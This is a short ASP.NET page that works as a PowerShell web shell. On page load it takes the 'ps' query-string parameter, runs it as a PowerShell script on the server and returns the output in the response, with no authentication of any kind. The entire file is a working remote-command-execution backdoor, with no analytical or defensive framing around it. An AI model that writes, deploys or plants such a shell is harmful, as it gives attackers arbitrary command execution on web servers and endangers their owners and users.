<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string script = Request.QueryString["ps"];
    if (string.IsNullOrEmpty(script)) return;
    using (var ps = PowerShell.Create())
    {
        ps.AddScript(script);
        foreach (var item in ps.Invoke())
            Response.Write(Server.HtmlEncode(item.ToString()) + "<br/>");
    }
}
</script>
